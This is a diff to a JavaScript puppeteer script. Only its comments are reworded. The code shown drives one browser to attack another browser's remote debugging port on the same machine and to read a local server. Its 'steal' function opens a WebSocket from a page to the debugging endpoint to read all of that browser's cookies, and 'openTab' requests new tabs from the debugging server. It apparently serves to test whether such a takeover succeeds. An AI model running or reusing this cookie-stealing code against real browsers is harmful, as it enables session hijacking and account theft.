@@ -1,5 +1,5 @@
-// Drives one browser and tries to take over another one of this machine by its debug port, and to read a server of this
-// machine; tells how far each step came.
+// Uses one browser to attack the debug port of another browser on this machine and to read a server on this machine.
+// Returns the result of each step.
 import puppeteer from 'puppeteer-core';
 import { answer, input } from './input.mjs';
 
@@ -7,7 +7,7 @@ const { endpoint, port, path, server } = await input();
 const browser = await puppeteer.connect({ browserWSEndpoint: endpoint, defaultViewport: null });
 const page = await browser.newPage();
 
-// show opens an address and tells what the page says.
+// show opens a URL and returns the text of the page.
 const show = async (address) => {
   try {
     await page.goto(address);
@@ -17,7 +17,7 @@ const show = async (address) => {
   }
 };
 
-// steal connects to a debugging server as a page does, and reads the cookies of all of its browser's pages.
+// steal connects to a debugging server from a page and reads all cookies of its browser.
 const steal = (address) => page.evaluate((address) => new Promise((done) => {
   const socket = new WebSocket(address);
   socket.onerror = () => done('failed');
@@ -25,7 +25,7 @@ const steal = (address) => page.evaluate((address) => new Promise((done) => {
   socket.onmessage = (event) => done(event.data);
 }), address);
 
-// openTab asks a debugging server for a tab.
+// openTab requests a new tab from a debugging server.
 const openTab = (address) => page.evaluate(async (address) => {
   try {
     return String((await fetch(address, { method: 'PUT' })).status);
